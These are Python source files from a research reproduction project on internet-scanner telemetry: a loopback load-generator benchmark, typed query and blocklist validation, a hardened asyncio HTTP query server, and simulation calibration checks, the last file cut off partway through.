Drives N concurrent keep-alive HTTP/1.1 client connections at a
:class:`~repro.serve.http.QueryServer` from inside the same process
(loopback, no external tooling), timing every request round-trip.  The
result is the serve benchmark's currency: sustained requests/second and
p50/p99 latency under thousands of simultaneous connections.

The client is as small as the server: write one GET at a time, read
the status line + headers, read exactly ``Content-Length`` body bytes.
Latency is measured per request (write → full body), so keep-alive reuse
is the steady state being measured, not connection setup.
"""

from __future__ import annotations

import asyncio
import time
from dataclasses import dataclass

__all__ = ["LoadReport", "run_load", "raise_nofile_limit"]


@dataclass(frozen=True)
class LoadReport:
    """One load run's outcome."""

    connections: int
    requests: int
    errors: int
    seconds: float
    rps: float
    p50_ms: float
    p99_ms: float
    max_ms: float
    status_counts: dict

    def as_dict(self) -> dict:
        return {
            "connections": self.connections,
            "requests": self.requests,
            "errors": self.errors,
            "seconds": round(self.seconds, 4),
            "rps": round(self.rps, 1),
            "p50_ms": round(self.p50_ms, 3),
            "p99_ms": round(self.p99_ms, 3),
            "max_ms": round(self.max_ms, 3),
            "status_counts": dict(self.status_counts),
        }


def raise_nofile_limit(wanted: int) -> int:
    """Best-effort bump of RLIMIT_NOFILE so ``wanted`` sockets can open.

    Returns the (possibly unchanged) soft limit.  Thousands of client +
    server socket pairs live in one process during the bench; default
    soft limits (1024 on many distros) would otherwise EMFILE.
    """
    try:
        import resource
    except ImportError:  # pragma: no cover - non-POSIX
        return wanted
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft >= wanted:
        return soft
    target = min(wanted, hard) if hard != resource.RLIM_INFINITY else wanted
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (target, hard))
    except (ValueError, OSError):  # pragma: no cover - locked-down env
        return soft
    return target


async def _read_response(reader: asyncio.StreamReader) -> int:
    """Read one response; return its status code (0 on EOF)."""
    status_line = await reader.readline()
    if not status_line:
        return 0
    parts = status_line.split()
    status = int(parts[1]) if len(parts) >= 2 and parts[1].isdigit() else 0
    content_length = 0
    while True:
        line = await reader.readline()
        if not line:
            return 0
        if line in (b"\r\n", b"\n"):
            break
        name, _sep, value = line.partition(b":")
        if name.strip().lower() == b"content-length":
            content_length = int(value.strip() or 0)
    if content_length:
        await reader.readexactly(content_length)
    return status


async def run_load(
    host: str,
    port: int,
    paths: list[str],
    connections: int = 1000,
    duration_seconds: float = 5.0,
    warmup_requests: int = 1,
) -> LoadReport:
    """Hold ``connections`` keep-alive clients open and hammer ``paths``.

    Every client cycles through the path list (offset by its index so
    the endpoint mix is uniform at any instant) until the deadline, then
    finishes its in-flight request and disconnects.  Per-request latency
    (write → body fully read) lands in one shared list; the report
    carries its p50/p99.
    """
    if not paths:
        raise ValueError("paths must be non-empty")
    raise_nofile_limit(2 * connections + 64)

    latencies: list[float] = []
    status_counts: dict[str, int] = {}
    errors = 0
    started = time.perf_counter()
    deadline = started + duration_seconds

    async def _client(which: int) -> None:
        nonlocal errors
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            errors += 1
            return
        try:
            step = which
            served = 0
            while True:
                now = time.perf_counter()
                if now >= deadline and served >= warmup_requests:
                    break
                path = paths[step % len(paths)]
                step += 1
                request = (
                    f"GET {path} HTTP/1.1\r\nHost: bench\r\n\r\n"
                ).encode("latin-1")
                begin = time.perf_counter()
                writer.write(request)
                await writer.drain()
                status = await _read_response(reader)
                elapsed = time.perf_counter() - begin
                if status == 0:
                    errors += 1
                    break
                served += 1
                if served > warmup_requests:
                    latencies.append(elapsed)
                key = str(status)
                status_counts[key] = status_counts.get(key, 0) + 1
        except (OSError, asyncio.IncompleteReadError, ValueError):
            errors += 1
        finally:
            writer.close()
            try:
                await writer.wait_closed()
            except (OSError, asyncio.IncompleteReadError):  # lint: disable=EXC002 - dead conn teardown
                pass

    await asyncio.gather(*(_client(index) for index in range(connections)))
    seconds = time.perf_counter() - started

    ordered = sorted(latencies)
    requests = sum(status_counts.values())

    def _percentile(fraction: float) -> float:
        if not ordered:
            return 0.0
        index = min(len(ordered) - 1, int(fraction * len(ordered)))
        return ordered[index] * 1000.0

    return LoadReport(
        connections=connections,
        requests=requests,
        errors=errors,
        seconds=seconds,
        rps=(requests / seconds) if seconds > 0 else 0.0,
        p50_ms=_percentile(0.50),
        p99_ms=_percentile(0.99),
        max_ms=ordered[-1] * 1000.0 if ordered else 0.0,
        status_counts=status_counts,
    )
