"""repro.serve — the queryable API plane over the reproduction.

The paper's vantage (GreyNoise) is *served* telemetry: analysts query an
API, not a pile of pcaps.  This package closes that gap for the
reproduction — a stdlib-asyncio HTTP/1.1 server answering the same
questions the batch experiments do, from either a live sketch stream or
a completed run directory.

* :mod:`repro.serve.schema` — typed, validation-first request contracts
  (and the CLI's simulation-config contract).
* :mod:`repro.serve.backends` — live (sketch estimates) and run-dir
  (exact batch values, content-addressed cache) backends.
* :mod:`repro.serve.http` — the hardened asyncio HTTP front.
* :mod:`repro.serve.loadgen` — the concurrent-client load generator
  behind ``cloudwatching bench --serve``.
"""

from repro.serve.backends import (
    LiveBackend,
    ReputationTracker,
    RunDirBackend,
    ServeBackend,
)
from repro.serve.http import QueryServer, ServeOptions, ServerStats
from repro.serve.loadgen import LoadReport, run_load
from repro.serve.schema import (
    Characteristic,
    SchemaError,
    SimulationPayload,
    validate_simulation_config,
)

__all__ = [
    "ServeBackend",
    "LiveBackend",
    "RunDirBackend",
    "ReputationTracker",
    "QueryServer",
    "ServeOptions",
    "ServerStats",
    "LoadReport",
    "run_load",
    "SchemaError",
    "Characteristic",
    "SimulationPayload",
    "validate_simulation_config",
]
