"""Typed request/response contracts for the serving layer.

Validation-first, in the FastSim ``SimulationPayload`` style: every
request a client can make — and every simulation configuration the CLI
accepts — is described by a strictly typed dataclass whose fields are
validated *before* any engine or sketch work happens.  Malformed input
never reaches a backend; it is rejected at the boundary with a
structured error naming each offending field.

Two contract families live here:

* **Query contracts** (:class:`TopQuery`, :class:`IpQuery`, ...) — one
  dataclass per endpoint, each built through :meth:`~Contract.parse`
  from the raw query-string mapping.  Unknown parameters, missing
  required fields, values outside their documented bounds, and
  syntactically invalid IPs all raise :class:`SchemaError`, which the
  HTTP layer renders as a structured 400.
* **:class:`SimulationPayload`** — the single self-contained contract
  for a simulation run (year / scale / telescope size / seed).  The CLI
  funnels every subcommand's simulation arguments through it, so a bad
  ``--scale`` fails with the same structured message whether it arrives
  over HTTP or argv.
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, fields
from typing import Callable, Mapping, Optional

__all__ = [
    "SchemaError",
    "Characteristic",
    "MAX_TOP_K",
    "MAX_TRAILING_HOURS",
    "MAX_BLOCKLIST_BYTES",
    "Contract",
    "TopQuery",
    "CardinalityQuery",
    "VolumesQuery",
    "CompareQuery",
    "IpQuery",
    "AlarmsQuery",
    "IncidentsQuery",
    "ActionsQuery",
    "NoParamsQuery",
    "SimulationPayload",
    "validate_simulation_config",
    "validate_blocklist_file",
]

#: Largest ``k`` a top-k / comparison query may request (the Space-Saving
#: sketches monitor at most 64 categories, so larger asks are undefined).
MAX_TOP_K = 64

#: Largest trailing window (hours) an alarm query may request.
MAX_TRAILING_HOURS = 24 * 365


class Characteristic(str, enum.Enum):
    """The §3.3 characteristics a vantage point is sketched on."""

    AS = "as"
    USERNAME = "username"
    PASSWORD = "password"
    PAYLOAD = "payload"

    def __str__(self) -> str:  # pragma: no cover - cosmetic
        return self.value


class SchemaError(ValueError):
    """A request (or config) violated its contract.

    ``errors`` is a list of ``{"field", "message", "value"}`` records —
    the exact JSON body of the structured 400 the server answers with.
    """

    def __init__(self, errors: list[dict]) -> None:
        self.errors = errors
        super().__init__("; ".join(
            f"{item['field']}: {item['message']}" for item in errors
        ))

    @classmethod
    def single(cls, field: str, message: str, value=None) -> "SchemaError":
        return cls([{"field": field, "message": message, "value": value}])

    def as_dict(self) -> dict:
        return {"error": "validation", "errors": self.errors}


# ---------------------------------------------------------------------------
# field parsers (each returns the parsed value or records an error)
# ---------------------------------------------------------------------------


def _parse_int(text: str, field: str, lo: int, hi: int, errors: list[dict]) -> Optional[int]:
    try:
        value = int(text)
    except (TypeError, ValueError):
        errors.append({"field": field, "message": "expected an integer", "value": text})
        return None
    if not lo <= value <= hi:
        errors.append({
            "field": field,
            "message": f"out of range [{lo}, {hi}]",
            "value": value,
        })
        return None
    return value


def parse_ip(text: str, field: str = "ip") -> int:
    """Parse a dotted-quad IPv4 address (or its integer form).

    >>> parse_ip("10.0.0.1") == (10 << 24) + 1
    True
    >>> parse_ip("999.0.0.1")
    Traceback (most recent call last):
        ...
    repro.serve.schema.SchemaError: ip: octet out of range [0, 255]
    """
    text = (text or "").strip()
    if not text:
        raise SchemaError.single(field, "required", None)
    if "." in text:
        parts = text.split(".")
        if len(parts) != 4:
            raise SchemaError.single(field, "expected a dotted quad", text)
        value = 0
        for part in parts:
            if not part.isdigit():
                raise SchemaError.single(field, "expected a dotted quad", text)
            octet = int(part)
            if octet > 255:
                raise SchemaError.single(field, "octet out of range [0, 255]", text)
            value = (value << 8) | octet
        return value
    if text.isdigit():
        value = int(text)
        if value >= 1 << 32:
            raise SchemaError.single(field, "out of range for IPv4", text)
        return value
    raise SchemaError.single(field, "expected a dotted quad or integer", text)


# ---------------------------------------------------------------------------
# query contracts
# ---------------------------------------------------------------------------


class Contract:
    """Base class: strict query-string parsing into typed dataclasses.

    Subclasses define ``PARAMS`` — ``name -> (required, parser)`` where
    the parser maps ``(raw_text, errors_list)`` to a parsed value.  Any
    parameter not named in ``PARAMS`` is itself a contract violation
    (strictness is what keeps typo'd queries from silently meaning
    something else).
    """

    PARAMS: dict[str, tuple[bool, Callable]] = {}

    @classmethod
    def parse(cls, params: Mapping[str, str]):
        errors: list[dict] = []
        values: dict = {}
        for name in params:
            if name not in cls.PARAMS:
                errors.append({
                    "field": name,
                    "message": "unexpected parameter",
                    "value": params[name],
                })
        for name, (required, parser) in cls.PARAMS.items():
            raw = params.get(name)
            if raw is None or raw == "":
                if required:
                    errors.append({"field": name, "message": "required", "value": None})
                continue
            try:
                values[name] = parser(raw, errors)
            except SchemaError as error:
                errors.extend(error.errors)
        if errors:
            raise SchemaError(errors)
        return cls(**values)  # type: ignore[call-arg]


def _k_param(raw: str, errors: list[dict]):
    return _parse_int(raw, "k", 1, MAX_TOP_K, errors)


def _vantage_param(raw: str, errors: list[dict]):
    if len(raw) > 128:
        errors.append({"field": "vantage", "message": "too long", "value": raw[:32]})
        return None
    return raw


def _characteristic_param(raw: str, errors: list[dict]):
    try:
        return Characteristic(raw)
    except ValueError:
        errors.append({
            "field": "characteristic",
            "message": f"unknown (choose from {', '.join(c.value for c in Characteristic)})",
            "value": raw,
        })
        return None


def _ip_param(raw: str, errors: list[dict]):
    return parse_ip(raw)


def _trailing_param(raw: str, errors: list[dict]):
    return _parse_int(raw, "trailing_hours", 1, MAX_TRAILING_HOURS, errors)


@dataclass(frozen=True)
class TopQuery(Contract):
    """``GET /top?vantage=...&characteristic=...&k=...``"""

    vantage: str
    characteristic: Characteristic
    k: int = 3

    PARAMS = {
        "vantage": (True, _vantage_param),
        "characteristic": (True, _characteristic_param),
        "k": (False, _k_param),
    }


@dataclass(frozen=True)
class CardinalityQuery(Contract):
    """``GET /cardinality[?vantage=...]``"""

    vantage: Optional[str] = None

    PARAMS = {"vantage": (False, _vantage_param)}


@dataclass(frozen=True)
class VolumesQuery(Contract):
    """``GET /volumes?vantage=...``"""

    vantage: str

    PARAMS = {"vantage": (True, _vantage_param)}


@dataclass(frozen=True)
class CompareQuery(Contract):
    """``GET /compare?characteristic=...&k=...``"""

    characteristic: Characteristic
    k: int = 3

    PARAMS = {
        "characteristic": (True, _characteristic_param),
        "k": (False, _k_param),
    }


@dataclass(frozen=True)
class IpQuery(Contract):
    """``GET /ip?ip=...``"""

    ip: int

    PARAMS = {"ip": (True, _ip_param)}


@dataclass(frozen=True)
class AlarmsQuery(Contract):
    """``GET /alarms[?trailing_hours=...]``"""

    trailing_hours: Optional[int] = None

    PARAMS = {"trailing_hours": (False, _trailing_param)}


#: Incident lifecycle states a filter may name.
INCIDENT_STATUSES = ("open", "acknowledged", "resolved")

#: Runbook action kinds a filter may name.
ACTION_KINDS = ("block", "rotate", "reweight")


def _status_param(raw: str, errors: list[dict]):
    if raw not in INCIDENT_STATUSES:
        errors.append({
            "field": "status",
            "message": f"unknown (choose from {', '.join(INCIDENT_STATUSES)})",
            "value": raw,
        })
        return None
    return raw


def _action_param(raw: str, errors: list[dict]):
    if raw not in ACTION_KINDS:
        errors.append({
            "field": "action",
            "message": f"unknown (choose from {', '.join(ACTION_KINDS)})",
            "value": raw,
        })
        return None
    return raw


@dataclass(frozen=True)
class IncidentsQuery(Contract):
    """``GET /incidents[?status=...]``"""

    status: Optional[str] = None

    PARAMS = {"status": (False, _status_param)}


@dataclass(frozen=True)
class ActionsQuery(Contract):
    """``GET /actions[?action=...]``"""

    action: Optional[str] = None

    PARAMS = {"action": (False, _action_param)}


@dataclass(frozen=True)
class NoParamsQuery(Contract):
    """Endpoints that accept no parameters at all."""

    PARAMS = {}


# ---------------------------------------------------------------------------
# the simulation configuration contract (CLI boundary)
# ---------------------------------------------------------------------------

#: Observation windows the population model is calibrated for.
VALID_YEARS = (2020, 2021, 2022)


@dataclass(frozen=True)
class SimulationPayload:
    """The self-contained contract for one simulation run.

    Mirrors :class:`repro.experiments.context.ExperimentConfig` field
    for field, but carries the validation the engine assumes: a
    calibrated year, a strictly positive bounded scale, a sane telescope
    size, and a non-negative seed.  ``validate()`` returns the full list
    of violations (not just the first), and ``to_config()`` only
    succeeds on a valid payload.
    """

    year: int = 2021
    scale: float = 0.5
    telescope_slash24s: int = 16
    seed: int = 20230701

    #: Bounds: scale 0 would build an empty population; above 100 the
    #: columnar pipeline would need >100x the calibrated memory budget.
    MAX_SCALE = 100.0
    MAX_TELESCOPE_SLASH24S = 65536

    def validate(self) -> list[dict]:
        errors: list[dict] = []
        if not isinstance(self.year, int) or self.year not in VALID_YEARS:
            errors.append({
                "field": "year",
                "message": f"must be one of {VALID_YEARS}",
                "value": self.year,
            })
        if not isinstance(self.scale, (int, float)) or isinstance(self.scale, bool) \
                or not 0.0 < float(self.scale) <= self.MAX_SCALE:
            errors.append({
                "field": "scale",
                "message": f"must be in (0, {self.MAX_SCALE:g}]",
                "value": self.scale,
            })
        if not isinstance(self.telescope_slash24s, int) or isinstance(self.telescope_slash24s, bool) \
                or not 1 <= self.telescope_slash24s <= self.MAX_TELESCOPE_SLASH24S:
            errors.append({
                "field": "telescope_slash24s",
                "message": f"must be in [1, {self.MAX_TELESCOPE_SLASH24S}]",
                "value": self.telescope_slash24s,
            })
        if not isinstance(self.seed, int) or isinstance(self.seed, bool) \
                or not 0 <= self.seed < 1 << 63:
            errors.append({
                "field": "seed",
                "message": "must be a non-negative 63-bit integer",
                "value": self.seed,
            })
        return errors

    def to_config(self):
        """Validate, then build the engine-facing configuration."""
        errors = self.validate()
        if errors:
            raise SchemaError(errors)
        from repro.experiments.context import ExperimentConfig

        return ExperimentConfig(
            year=self.year,
            scale=float(self.scale),
            telescope_slash24s=self.telescope_slash24s,
            seed=self.seed,
        )


def validate_simulation_config(
    year: int = 2021,
    scale: float = 0.5,
    telescope_slash24s: int = 16,
    seed: int = 20230701,
):
    """One-shot helper: validated :class:`ExperimentConfig` or SchemaError.

    Every CLI subcommand that accepts simulation arguments goes through
    here, so the engine never starts on a configuration the contract
    rejects.
    """
    return SimulationPayload(
        year=year, scale=scale, telescope_slash24s=telescope_slash24s, seed=seed
    ).to_config()


# -- blocklist files --------------------------------------------------------

#: Size cap on an external blocklist file; anything larger is rejected
#: before a single line is parsed.
MAX_BLOCKLIST_BYTES = 4 << 20


def validate_blocklist_file(path) -> tuple[tuple[int, ...], tuple[int, ...]]:
    """Parse and validate an external blocklist file.

    Line format (the shape ``cloudwatching respond --blocklist-out``
    emits, so paper-static baselines and closed-loop output round-trip
    through one parser):

    * blank lines and ``#`` comments are skipped;
    * ``AS<number>`` blocks a source AS (e.g. ``AS4134``);
    * anything else must be a dotted-quad (or integer) IPv4 source.

    Returns sorted, deduplicated ``(ips, asns)`` tuples.  All problems —
    missing file, oversized file, malformed lines — surface as a single
    :class:`SchemaError` carrying one structured entry per bad line, so
    callers (CLI, experiment drivers) report every defect at once.
    """
    import os

    path = os.fspath(path)
    try:
        size = os.path.getsize(path)
    except OSError:
        raise SchemaError.single("blocklist", "file not found", path) from None
    if size > MAX_BLOCKLIST_BYTES:
        raise SchemaError.single(
            "blocklist", f"file exceeds {MAX_BLOCKLIST_BYTES} bytes", path
        )
    errors: list[dict] = []
    ips: set[int] = set()
    asns: set[int] = set()
    with open(path, "r", encoding="utf-8", errors="replace") as handle:
        for lineno, raw in enumerate(handle, start=1):
            line = raw.split("#", 1)[0].strip()
            if not line:
                continue
            field = f"blocklist:{lineno}"
            if line[:2].upper() == "AS":
                number = _parse_int(line[2:], field, 0, (1 << 32) - 1, errors)
                if number is not None:
                    asns.add(number)
                continue
            try:
                ips.add(parse_ip(line, field=field))
            except SchemaError as exc:
                errors.extend(exc.errors)
    if errors:
        raise SchemaError(errors)
    return tuple(sorted(ips)), tuple(sorted(asns))
