"""The asyncio HTTP/1.1 front of the serving layer.

A deliberately small, dependency-free server: stdlib ``asyncio`` streams,
GET-only, keep-alive, JSON in and out.  It exists to put the paper's
"queryable GreyNoise" shape over whichever backend it is given — the
backend does all the thinking, this module does wire discipline:

* **hardening** mirrors the live honeypots' knobs — connection cap with
  rejection accounting, per-connection read limits, request-line/header
  byte caps, read timeouts, bounded keep-alive request counts;
* **structured errors** — contract violations arrive as
  :class:`~repro.serve.schema.SchemaError` and leave as a 400 whose body
  is the machine-readable ``{"error": "validation", "errors": [...]}``;
* **content addressing** — when the backend can name a response
  (run-dir mode: dataset digest + endpoint + params), the encoded bytes
  are cached in a bounded LRU and the name doubles as a strong ``ETag``,
  so a client replaying a query gets a ``304 Not Modified`` for free;
* **graceful drain** — :meth:`QueryServer.stop` stops accepting, then
  waits (bounded) for in-flight requests to finish, the same
  active-handler/idle-event pattern the live honeypots use.
"""

from __future__ import annotations

import asyncio
import json
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Optional
from urllib.parse import parse_qsl, unquote, urlsplit

from repro.serve.backends import ServeBackend
from repro.serve.schema import SchemaError

__all__ = ["ServeOptions", "ServerStats", "QueryServer"]

_REASONS = {
    200: "OK",
    304: "Not Modified",
    400: "Bad Request",
    404: "Not Found",
    405: "Method Not Allowed",
    408: "Request Timeout",
    431: "Request Header Fields Too Large",
    500: "Internal Server Error",
    503: "Service Unavailable",
}


@dataclass(frozen=True)
class ServeOptions:
    """Listener + hardening knobs for :class:`QueryServer`.

    The defaults are sized for the load benchmark: thousands of
    concurrent keep-alive connections, each request a few hundred bytes.
    """

    host: str = "127.0.0.1"
    port: int = 0
    #: Listen backlog handed to the OS.
    backlog: int = 512
    #: Concurrent-connection cap (0 = unlimited); a connection arriving
    #: at the cap is answered 503 and closed, counted in
    #: :attr:`ServerStats.rejected_connections`.
    max_connections: int = 4096
    #: Hard cap on one request head (request line + headers, bytes).
    max_request_bytes: int = 8 * 1024
    #: StreamReader buffer bound per connection (bytes).
    read_limit: int = 64 * 1024
    #: Seconds to wait for the next request on an idle connection.
    read_timeout: float = 30.0
    #: Requests served per connection before it is closed (0 = unlimited).
    keepalive_requests: int = 0
    #: Seconds :meth:`QueryServer.stop` waits for in-flight requests.
    drain_timeout: float = 10.0
    #: Encoded responses kept in the content-addressed cache.
    cache_entries: int = 1024


@dataclass
class ServerStats:
    """Wire-level accounting, exposed by ``/stats`` next to the bus's."""

    connections_accepted: int = 0
    rejected_connections: int = 0
    requests_served: int = 0
    responses_by_status: dict = field(default_factory=dict)
    cache_hits: int = 0
    cache_misses: int = 0
    not_modified: int = 0
    active_connections: int = 0
    #: Connections where the peer vanished mid-write/mid-request —
    #: swallowed on the wire, but never silently (lint rule EXC002).
    peer_disconnects: int = 0

    def record(self, status: int) -> None:
        self.requests_served += 1
        key = str(status)
        self.responses_by_status[key] = self.responses_by_status.get(key, 0) + 1

    def as_dict(self) -> dict:
        return {
            "connections_accepted": self.connections_accepted,
            "rejected_connections": self.rejected_connections,
            "requests_served": self.requests_served,
            "responses_by_status": dict(self.responses_by_status),
            "cache_hits": self.cache_hits,
            "cache_misses": self.cache_misses,
            "not_modified": self.not_modified,
            "active_connections": self.active_connections,
            "peer_disconnects": self.peer_disconnects,
        }


def _encode_json(payload: dict) -> bytes:
    return json.dumps(payload, separators=(",", ":"), sort_keys=True).encode("utf-8")


async def _close_quietly(writer: asyncio.StreamWriter) -> None:
    """Close a transport, ignoring the peer having beaten us to it.

    Teardown of an already-dead connection is the one place a dropped
    exception carries no information — the close outcome is identical
    either way — hence the single sanctioned EXC002 suppression.
    """
    writer.close()
    try:
        await writer.wait_closed()
    except (ConnectionResetError, BrokenPipeError):  # lint: disable=EXC002 - peer already gone
        pass


class QueryServer:
    """Serve one :class:`~repro.serve.backends.ServeBackend` over HTTP."""

    def __init__(self, backend: ServeBackend, options: Optional[ServeOptions] = None) -> None:
        self.backend = backend
        self.options = options or ServeOptions()
        self.stats = ServerStats()
        self.port: Optional[int] = None
        self._server: Optional[asyncio.base_events.Server] = None
        self._cache: OrderedDict[str, bytes] = OrderedDict()
        self._connections: set[asyncio.StreamWriter] = set()
        self._idle = asyncio.Event()
        self._idle.set()
        self._draining = False

    # -- lifecycle ------------------------------------------------------

    async def start(self) -> None:
        if self._server is not None:
            raise RuntimeError("server already started")
        self._server = await asyncio.start_server(
            self._handle_connection,
            self.options.host,
            self.options.port,
            backlog=self.options.backlog,
            limit=self.options.read_limit,
        )
        self.port = self._server.sockets[0].getsockname()[1]

    async def stop(self) -> None:
        """Stop accepting, then drain in-flight requests (bounded)."""
        if self._server is None:
            return
        self._draining = True
        self._server.close()
        await self._server.wait_closed()
        try:
            await asyncio.wait_for(self._idle.wait(), timeout=self.options.drain_timeout)
        except asyncio.TimeoutError:
            # Idle keep-alive connections (parked in a read) are the
            # stragglers here; requests in flight have already finished
            # or are cut off at the deadline like everything else.
            for writer in list(self._connections):
                writer.close()
            try:
                await asyncio.wait_for(self._idle.wait(), timeout=1.0)
            except asyncio.TimeoutError:  # lint: disable=EXC002 - drain is best-effort
                pass
        self._server = None
        self._draining = False

    async def serve_forever(self) -> None:
        if self._server is None:
            await self.start()
        await self._server.serve_forever()

    async def __aenter__(self) -> "QueryServer":
        await self.start()
        return self

    async def __aexit__(self, *exc_info) -> None:
        await self.stop()

    # -- the wire -------------------------------------------------------

    async def _handle_connection(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        options = self.options
        if self._draining or (
            options.max_connections
            and self.stats.active_connections >= options.max_connections
        ):
            self.stats.rejected_connections += 1
            try:
                writer.write(self._render(503, {"error": "overloaded"}, close=True))
                await writer.drain()
            except (ConnectionResetError, BrokenPipeError):
                self.stats.peer_disconnects += 1
            await _close_quietly(writer)
            return

        self.stats.connections_accepted += 1
        self.stats.active_connections += 1
        self._connections.add(writer)
        self._idle.clear()
        served_here = 0
        try:
            while True:
                close = False
                try:
                    head = await asyncio.wait_for(
                        self._read_head(reader), timeout=options.read_timeout
                    )
                except asyncio.TimeoutError:
                    break
                except _HeadTooLarge:
                    self.stats.record(431)
                    writer.write(self._render(431, {"error": "request too large"}, close=True))
                    await writer.drain()
                    break
                if head is None:
                    break
                status, body, etag, close = self._respond(head)
                served_here += 1
                if options.keepalive_requests and served_here >= options.keepalive_requests:
                    close = True
                if self._draining:
                    close = True
                self.stats.record(status)
                writer.write(self._render(status, body, etag=etag, close=close))
                await writer.drain()
                if close:
                    break
        except (ConnectionResetError, BrokenPipeError):
            self.stats.peer_disconnects += 1
        finally:
            self._connections.discard(writer)
            await _close_quietly(writer)
            self.stats.active_connections -= 1
            if self.stats.active_connections == 0:
                self._idle.set()

    async def _read_head(self, reader: asyncio.StreamReader):
        """One request head: (method, target, headers) or None at EOF."""
        budget = self.options.max_request_bytes
        request_line = await reader.readline()
        if not request_line:
            return None
        budget -= len(request_line)
        if budget < 0:
            raise _HeadTooLarge()
        headers: dict[str, str] = {}
        while True:
            line = await reader.readline()
            if not line:
                return None
            budget -= len(line)
            if budget < 0:
                raise _HeadTooLarge()
            if line in (b"\r\n", b"\n"):
                break
            name, _sep, value = line.partition(b":")
            headers[name.strip().lower().decode("latin-1")] = (
                value.strip().decode("latin-1")
            )
        parts = request_line.split()
        if len(parts) != 3:
            return ("", "", headers)
        method, target, _version = parts
        return (
            method.decode("latin-1", errors="replace"),
            target.decode("latin-1", errors="replace"),
            headers,
        )

    def _respond(self, head) -> tuple[int, Optional[dict], Optional[str], bool]:
        """(status, body-or-None-for-cached, etag, close) for one request."""
        method, target, headers = head
        wants_close = headers.get("connection", "").lower() == "close"
        if not method:
            return 400, {"error": "malformed request line"}, None, True
        if method != "GET":
            return 405, {"error": "method not allowed", "allow": ["GET"]}, None, wants_close

        split = urlsplit(target)
        path = unquote(split.path) or "/"
        params: dict[str, str] = {}
        duplicate = None
        for name, value in parse_qsl(split.query, keep_blank_values=True):
            if name in params:
                duplicate = name
            params[name] = value
        if duplicate is not None:
            error = SchemaError.single(duplicate, "duplicate parameter", params[duplicate])
            return 400, error.as_dict(), None, wants_close

        cache_key = self.backend.cache_key(path, params)
        if cache_key is not None and headers.get("if-none-match") == f'"{cache_key}"':
            self.stats.not_modified += 1
            return 304, None, cache_key, wants_close

        try:
            if cache_key is not None and cache_key in self._cache:
                self.stats.cache_hits += 1
                self._cache.move_to_end(cache_key)
                return 200, self._cache[cache_key], cache_key, wants_close
            body = self.backend.handle(path, params)
        except SchemaError as error:
            return 400, error.as_dict(), None, wants_close
        except Exception as error:  # noqa: BLE001 - the wire must answer
            return 500, {"error": "internal", "detail": str(error)[:200]}, None, True
        if body is None:
            return 404, {"error": "not found", "path": path}, None, wants_close
        if cache_key is not None:
            self.stats.cache_misses += 1
            encoded = _encode_json(body)
            self._cache[cache_key] = encoded
            while len(self._cache) > self.options.cache_entries:
                self._cache.popitem(last=False)
            return 200, encoded, cache_key, wants_close
        return 200, body, None, wants_close

    def _render(
        self,
        status: int,
        body,
        etag: Optional[str] = None,
        close: bool = False,
    ) -> bytes:
        if body is None:
            encoded = b""
        elif isinstance(body, bytes):
            encoded = body
        else:
            encoded = _encode_json(body)
        reason = _REASONS.get(status, "Unknown")
        head = [
            f"HTTP/1.1 {status} {reason}",
            "Content-Type: application/json",
            f"Content-Length: {len(encoded)}",
            f"Connection: {'close' if close else 'keep-alive'}",
        ]
        if etag is not None:
            head.append(f'ETag: "{etag}"')
        return ("\r\n".join(head) + "\r\n\r\n").encode("latin-1") + encoded


class _HeadTooLarge(Exception):
    """A request head exceeded ``max_request_bytes``."""
