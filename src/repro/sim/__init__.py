"""Simulation core: clock, RNG streams, event schema, engine.

The engine depends on the honeypot and deployment layers, which in turn
import this package's event schema; to keep the layering acyclic the
engine's names are re-exported lazily.
"""

from repro.sim.clock import ObservationWindow, WEEK_2020, WEEK_2021, WEEK_2022
from repro.sim.events import CapturedEvent, Credential, NetworkKind, ScanIntent
from repro.sim.rng import RngHub, stable_hash64

__all__ = [
    "ObservationWindow", "WEEK_2020", "WEEK_2021", "WEEK_2022",
    "SimulationConfig", "SimulationResult", "Simulator", "run_simulation",
    "CapturedEvent", "Credential", "NetworkKind", "ScanIntent",
    "RngHub", "stable_hash64",
]

_ENGINE_NAMES = {"SimulationConfig", "SimulationResult", "Simulator", "run_simulation"}


def __getattr__(name: str):
    if name in _ENGINE_NAMES:
        from repro.sim import engine

        return getattr(engine, name)
    raise AttributeError(f"module 'repro.sim' has no attribute {name!r}")
