"""Simulator calibration diagnostics.

These checks compare a finished simulation's *captured* data against its
own *configured* population — the one place in the repository allowed to
look at ground truth.  They exist for maintainers editing
:mod:`repro.scanners.population`: a failed check means a calibration knob
drifted, not that an analysis is wrong.

Usage::

    report = validate_calibration(result)
    for finding in report.findings:
        print(finding)
    assert report.ok
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field
from typing import Optional

from repro.sim.engine import SimulationResult
from repro.sim.events import NetworkKind

__all__ = ["CalibrationFinding", "CalibrationReport", "validate_calibration"]


@dataclass(frozen=True)
class CalibrationFinding:
    """One diagnostic result."""

    check: str
    ok: bool
    detail: str

    def __str__(self) -> str:
        status = "ok " if self.ok else "FAIL"
        return f"[{status}] {self.check}: {self.detail}"


@dataclass
class CalibrationReport:
    findings: list[CalibrationFinding] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return all(finding.ok for finding in self.findings)

    def add(self, check: str, ok: bool, detail: str) -> None:
        self.findings.append(CalibrationFinding(check, ok, detail))

    def failures(self) -> list[CalibrationFinding]:
        return [finding for finding in self.findings if not finding.ok]


def _ground_truth_sources(result: SimulationResult) -> tuple[set[int], set[int]]:
    """(malicious source IPs, telescope-avoiding source IPs) per config."""
    malicious: set[int] = set()
    avoiders: set[int] = set()
    for spec in result.population:
        sources = {int(ip) for ip in result.source_ips[spec.scanner_id]}
        if spec.malicious:
            malicious |= sources
        if spec.strategy.kind_weights.get(NetworkKind.TELESCOPE, 1.0) == 0.0:
            avoiders |= sources
    return malicious, avoiders


def validate_calibration(
    result: SimulationResult,
    min_events: int = 1000,
) -> CalibrationReport:
    """Run the calibration checks on one simulation."""
    report = CalibrationReport()
    total = result.total_events()
    report.add("volume", total >= min_events,
               f"{total} honeypot events (expected >= {min_events})")
    if total == 0:
        return report

    malicious_truth, avoider_truth = _ground_truth_sources(result)

    # --- telescope avoidance holds exactly ---
    telescope_sources: set[int] = set()
    if result.telescope is not None:
        for port in result.telescope.ports():
            telescope_sources |= result.telescope.sources_on_port(port)
